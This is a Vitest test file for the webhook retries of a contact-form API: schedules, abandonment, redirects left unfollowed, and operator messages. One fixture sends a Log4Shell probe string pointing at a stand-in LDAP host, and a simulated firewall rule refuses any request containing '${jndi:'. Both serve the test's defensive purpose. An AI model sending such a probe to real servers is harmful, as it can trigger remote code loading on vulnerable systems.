// @vitest-environment node
/**
 * Retries that end, against a webhook stand-in on 127.0.0.1 (./webhook-stand-in.ts) that misbehaves as real targets
 * do: one that records the lead then answers 302 (a Google Apps Script web app), one that refuses one lead (400),
 * then goes down, then comes back, one that never comes back, one whose firewall refuses one lead for its content
 * (403 to `${jndi:`), and one that redirects every lead elsewhere. The API runs as `npm start` runs it
 * (src/api/app.ts through tests/fixtures/api.ts, over the files of LEADS_DIR), its deliveries over the network; its
 * clock is injected and moved by hand, so that the schedule's minutes and hours pass at once.
 */
import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { inboxTable } from '../../ops/leads/inbox.ts';
import { leadsLines } from '../../ops/leads/lines.ts';
import { receiverLines } from '../../src/api/contact/lines.ts';
import { maxAttempts, parisDateTime, parisTime, retryDelaysMs } from '../../src/api/contact/notify.ts';
import { spamCaps } from '../../src/api/contact/spam/weights.ts';
import { deliveryStatusStore } from '../../src/api/store/delivery-status.ts';
import { leadStore } from '../../src/api/store/lead-store.ts';
import type { ContactValues } from '../../src/contact/contact-fields.ts';
import { fillTemplate } from '../../src/content/template.ts';
import { filesDriver } from '../../src/hosts/node/files-driver.ts';
import { testApi } from '../fixtures/api.ts';
import { validLead } from '../fixtures/visitor.ts';
import { runLeads } from './run-script.ts';
import { namesOf, webhookStandIn } from './webhook-stand-in.ts';

const minute = 60_000;
const t0 = Date.parse('2026-11-24T09:00:00Z');
const iso = (ms: number) => new Date(ms).toISOString();

/** The API's clock: `at(ms)` moves it to `t0 + ms`. */
let time = t0;
const at = (ms: number) => {
  time = t0 + ms;
};
beforeEach(() => at(0));

// Each with a text of their own: one text from a third address would be kept apart as spam (a repeated body).
const visitor = (name: string, message = `Bonjour, ici ${name} : une question sur ma LLC.`): ContactValues =>
  validLead({ name, email: `${name.split(' ')[0]?.toLowerCase()}@example.com`, message });

/** The deliveries go over the network, to the stand-in. */
const network: typeof fetch = (input, init) => fetch(input, init);

/** The API over a LEADS_DIR of its own (or `dir`), posting to `url`. */
async function site(url: string, dir?: string) {
  const leadsDir = dir ?? (await mkdtemp(path.join(tmpdir(), 'propllc-retries-')));
  const api = await testApi({ CONTACT_WEBHOOK_URL: url }, { leads: filesDriver(leadsDir), now: () => new Date(time), fetch: network });
  expect(api.api.problems).toEqual([]);
  const store = leadStore(filesDriver(leadsDir), { spamCaps });
  /** A visitor's message, answered 200, and all the work it left behind done. */
  const send = async (values: ContactValues) => {
    expect((await api.post(values)).status).toBe(200);
    await api.settle();
  };
  const states = async () => Object.fromEntries((await store.list()).leads.map((lead) => [lead.name, lead.notification] as const));
  const lines = () => [...api.log, ...api.errors];
  return {
    api,
    send,
    pass: () => api.api.scheduled(),
    store,
    status: deliveryStatusStore(filesDriver(leadsDir)),
    states,
    lines,
    dir: leadsDir,
  };
}

const gaveUp = (lines: string[]) => lines.filter((line) => line.startsWith('Notification abandonnée'));
const pausedLines = (lines: string[]) => lines.filter((line) => line.startsWith('Livraison EN PANNE'));

describe('retries that end', () => {
  it('a target that records the lead then answers 302 gets it once: « échec : HTTP 302 », never retried, never followed', async () => {
    const target = await webhookStandIn(() => 302);
    try {
      const { send, states, pass, lines } = await site(target.url());
      await send(visitor('Jeanne Martin'));
      // The reason names where the target points (its host only: a webhook's path often holds its token).
      const reason = `HTTP 302 → ${target.origin}`;
      expect((await states())['Jeanne Martin']).toEqual({ state: 'failed', attempts: 1, at: iso(t0), reason });
      for (const later of [minute, 6 * minute, 3 * 60 * minute, 24 * 60 * minute]) {
        at(later);
        await pass();
      }
      expect(namesOf(target.leads())).toEqual(['Jeanne Martin']);
      // Nothing asked where it points.
      expect(target.received.filter((request) => request.path !== '/hook')).toEqual([]);
      // Said once, with what to do.
      expect(gaveUp(lines())).toEqual([
        expect.stringMatching(
          /^Notification abandonnée \(webhook\) pour le message \S+ après 1 essai\(s\)\u202f: HTTP 302 → http:\/\/127\.0\.0\.1:\d+\. .* npm run leads -- --retry \S+\.$/,
        ),
      ]);
      expect(pausedLines(lines())).toEqual([]);
    } finally {
      await target.close();
    }
  });

  it('a target that refuses one lead (400), goes down, then comes back: the others go out once each, the refused one never again', async () => {
    let down = false;
    const target = await webhookStandIn((request) => (down ? 'down' : request.name === 'Paul Refusé' ? 400 : 200));
    try {
      const { send, states, pass, store, lines } = await site(target.url());
      await send(visitor('Paul Refusé'));
      expect((await states())['Paul Refusé']).toMatchObject({ state: 'failed', attempts: 1, reason: 'HTTP 400' });

      down = true;
      at(10_000);
      await send(visitor('Anne Durand'));
      at(20_000);
      await send(visitor('Marc Petit'));
      expect((await states())['Anne Durand']).toEqual({
        state: 'pending',
        attempts: 1,
        nextAt: iso(t0 + 10_000 + minute),
        lastReason: expect.any(String),
      });

      // Down for the first retry too: each lead moves to its second delay, none holds back the other.
      at(90_000);
      await pass();
      expect((await states())['Anne Durand']).toMatchObject({ state: 'pending', attempts: 2 });
      expect((await states())['Marc Petit']).toMatchObject({ state: 'pending', attempts: 2 });
      // Before its next time, no lead is tried: nothing is logged either.
      const said = lines().length;
      const asked = target.received.length;
      at(3 * minute);
      await pass();
      expect(lines()).toHaveLength(said);
      expect(target.received).toHaveLength(asked);

      down = false;
      at(7 * minute);
      await pass();
      at(24 * 60 * minute);
      await pass();

      // What reached the target: the refused lead once, each other lead once, each with its id in the header. Anne's and
      // Marc's retries start together, so they may arrive in either order.
      const answered = target.leads().filter((request) => request.status !== 'down');
      expect(answered.map(({ name, status }) => `${name} ${status}`).sort()).toEqual([
        'Anne Durand 200',
        'Marc Petit 200',
        'Paul Refusé 400',
      ]);
      expect(namesOf(target.leads(), 'down').sort()).toEqual(['Anne Durand', 'Anne Durand', 'Marc Petit', 'Marc Petit']);
      const { leads } = await store.list();
      for (const request of target.leads()) {
        const id = leads.find((lead) => lead.name === request.name)?.id;
        expect(request.headers['idempotency-key'], request.name).toBe(id);
        expect(request.body.id, request.name).toBe(id);
      }
      expect(Object.values(await states()).map((state) => state.state)).toEqual(['sent', 'sent', 'failed']);

      // The operator's table says what failed and why.
      const table = inboxTable(leads, leadsLines).split('\n');
      expect(table[0]).toMatch(/ Notification$/);
      expect(table.find((line) => line.includes('Paul Refusé'))).toMatch(/ échec\u202f: HTTP 400$/);
      expect(table.find((line) => line.includes('Anne Durand'))).toMatch(/ envoyée$/);

      // Once the cause is fixed, --retry puts it back, due now, and the next pass sends it, once.
      const paul = leads.find((lead) => lead.name === 'Paul Refusé');
      await store.retry(paul?.id ?? '', new Date(time));
      expect((await states())['Paul Refusé']).toEqual({ state: 'pending', attempts: 0, nextAt: iso(t0 + 24 * 60 * minute) });
    } finally {
      await target.close();
    }
  });

  it('a target that never comes back is asked as many times as the schedule allows, then the lead is « échec »', async () => {
    const target = await webhookStandIn(() => 'down');
    try {
      const { send, states, pass, lines } = await site(target.url());
      await send(visitor('Jeanne Martin'));
      let elapsed = 0;
      for (const delay of retryDelaysMs) {
        elapsed += delay;
        // Just before its time, nothing; at its time, one attempt.
        at(elapsed - 1000);
        await pass();
        at(elapsed);
        await pass();
      }
      at(elapsed + 7 * 24 * 60 * minute);
      await pass();
      expect(maxAttempts).toBe(6);
      expect(namesOf(target.leads())).toEqual(Array.from({ length: maxAttempts }, () => 'Jeanne Martin'));
      expect((await states())['Jeanne Martin']).toMatchObject({ state: 'failed', attempts: maxAttempts, at: iso(t0 + elapsed) });
      const attempts = lines().filter((line) => line.startsWith('Notification'));
      expect(attempts).toHaveLength(maxAttempts);
      expect(attempts.slice(0, -1).map((line) => /essai (\d) sur 6/.exec(line)?.[1])).toEqual(['1', '2', '3', '4', '5']);
      // The next attempt's time, in Paris: the first retry a minute after the message (10:01).
      expect(attempts[0]).toContain('prochain essai à 10:01');
      expect(attempts.at(-1)).toMatch(/^Notification abandonnée \(webhook\) pour le message \S+ après 6 essai\(s\)/);
    } finally {
      await target.close();
    }
  });
});

/** A message a firewall in front of the target (a WAF) refuses for its content: a Log4Shell probe. */
// biome-ignore lint/suspicious/noTemplateCurlyInString: the text a Log4Shell probe sends, as typed, not a template.
const probe = visitor('Paul Sondeur', 'Bonjour, une question sur ma LLC : ${jndi:ldap://sonde.example/a}');
const refusesProbes = (request: { raw: string }) => (request.raw.includes('${jndi:') ? 403 : 200);

describe('a lead its target refuses for its content (403)', () => {
  it('is « échec » after one post, and the three leads after it go out once each: no incident', async () => {
    const target = await webhookStandIn(refusesProbes);
    try {
      const { send, states, pass, status, lines } = await site(target.url());
      await send(probe);
      expect((await states())['Paul Sondeur']).toEqual({ state: 'failed', attempts: 1, at: iso(t0), reason: 'HTTP 403' });
      for (const [index, name] of ['Anne Durand', 'Marc Petit', 'Louis Bernard'].entries()) {
        at((index + 1) * 10_000);
        await send(visitor(name));
      }
      // Later passes send nothing again.
      for (const later of [minute, 60 * minute, 24 * 60 * minute]) {
        at(later);
        await pass();
      }
      expect(target.leads().map(({ name, status }) => `${name} ${status}`)).toEqual([
        'Paul Sondeur 403',
        'Anne Durand 200',
        'Marc Petit 200',
        'Louis Bernard 200',
      ]);
      expect(await states()).toMatchObject({
        'Paul Sondeur': { state: 'failed' },
        'Anne Durand': { state: 'sent' },
        'Marc Petit': { state: 'sent' },
        'Louis Bernard': { state: 'sent' },
      });
      expect((await status.read()).pause).toBeUndefined();
      expect(pausedLines(lines())).toEqual([]);
      expect(gaveUp(lines())).toEqual([
        expect.stringMatching(/^Notification abandonnée \(webhook\) pour le message \S+ après 1 essai\(s\)\u202f: HTTP 403\. /),
      ]);
    } finally {
      await target.close();
    }
  });

  it('is listed by the next digest the target accepts, with the command that sends it again', async () => {
    const target = await webhookStandIn(refusesProbes);
    try {
      const { send, pass, store } = await site(target.url());
      await send(probe);
      at(10_000);
      await send(visitor('Anne Durand'));
      // The day's passes (a digest the target refused is asked again some minutes later).
      for (let later = minute; later <= 6 * 60 * minute; later += 10 * minute) {
        at(later);
        await pass();
      }
      const paul = (await store.list()).leads.find((lead) => lead.name === 'Paul Sondeur');
      expect(paul?.notification.state).toBe('failed');
      const accepted = target.digests().filter((digest) => digest.status === 200);
      expect(accepted.map((digest) => (digest.body.failed as { id: string }[]).map((entry) => entry.id))).toContainEqual([paul?.id]);
      const entry = (accepted[0]?.body.failed as { id: string; command: string }[] | undefined)?.[0];
      expect(entry?.command).toBe(`npm run leads -- --retry ${paul?.id}`);
    } finally {
      await target.close();
    }
  });
});

describe('a target that redirects every lead elsewhere (302)', () => {
  it('each lead redirected is posted once and never followed; two make a `redirect` incident that npm run leads names, and what it says holds', async () => {
    const elsewhere = await webhookStandIn(() => 200);
    const target = await webhookStandIn(() => ({ status: 302, location: elsewhere.url('/exec') }));
    try {
      const { send, states, pass, status, lines, dir } = await site(target.url());
      const reason = `HTTP 302 → ${elsewhere.origin}`;
      await send(visitor('Jeanne Martin'));
      // One alone: that lead's own.
      expect((await states())['Jeanne Martin']).toEqual({ state: 'failed', attempts: 1, at: iso(t0), reason });
      expect((await status.read()).pause).toBeUndefined();

      // A second, different lead redirected with no success between: the setting points at the wrong address.
      at(10_000);
      await send(visitor('Anne Durand'));
      const pause = (await status.read()).pause;
      expect(pause).toMatchObject({ kind: 'redirect', delivery: 'webhook', reason, since: iso(t0 + 10_000) });
      expect(pausedLines(lines())).toEqual([
        fillTemplate(receiverLines.deliveryPaused, {
          delivery: 'webhook',
          reason,
          time: parisTime(pause?.nextAt ?? ''),
          check: receiverLines.pauseCheckRedirect,
        }),
      ]);
      // A lead of the incident waits, posted nowhere.
      at(20_000);
      await send(visitor('Marc Petit'));
      expect(namesOf(target.leads())).toEqual(['Jeanne Martin', 'Anne Durand']);

      // npm run leads says it above the table, with what to do.
      const listed = await runLeads([], { LEADS_DIR: dir });
      expect(listed.code).toBe(0);
      const shown = listed.stdout.split('\n');
      expect(shown[0]).toBe(
        fillTemplate(leadsLines.redirected, {
          reason,
          delivery: 'webhook',
          since: parisDateTime(pause?.since ?? ''),
          time: parisTime(pause?.nextAt ?? ''),
        }),
      );
      // What it says holds: the leads already redirected are « échec » (sent again with --retry), the others wait.
      const row = (name: string) => shown.find((line) => line.includes(name));
      expect.soft(row('Jeanne Martin')).toMatch(/ échec\u202f: HTTP 302 → http:\/\/127\.0\.0\.1:\d+$/);
      expect.soft(row('Anne Durand')).toMatch(/ échec\u202f: HTTP 302 → http:\/\/127\.0\.0\.1:\d+$/);
      expect(row('Marc Petit')).toMatch(/ à notifier \(essai 1, prochain à \d{2}:\d{2}\)$/);

      // However long the setting stays wrong, no lead is posted again to the address that redirects, none followed:
      // only every 12 hours is one lead waiting tried alone, in case the target came back; redirected, it is « échec ».
      for (const later of [2 * minute, 10 * minute, 60 * minute, 6 * 60 * minute]) {
        at(later);
        await pass();
      }
      expect(namesOf(target.leads())).toEqual(['Jeanne Martin', 'Anne Durand']);
      expect((await states())['Marc Petit']).toMatchObject({ state: 'pending', attempts: 0 });
      at(24 * 60 * minute);
      await pass();
      expect(namesOf(target.leads())).toEqual(['Jeanne Martin', 'Anne Durand', 'Marc Petit']);
      expect(elsewhere.received).toEqual([]);
      expect(pausedLines(lines())).toHaveLength(1);
      expect((await states())['Marc Petit']).toMatchObject({ state: 'failed', attempts: 1, reason });
    } finally {
      await target.close();
      await elsewhere.close();
    }
  });
});
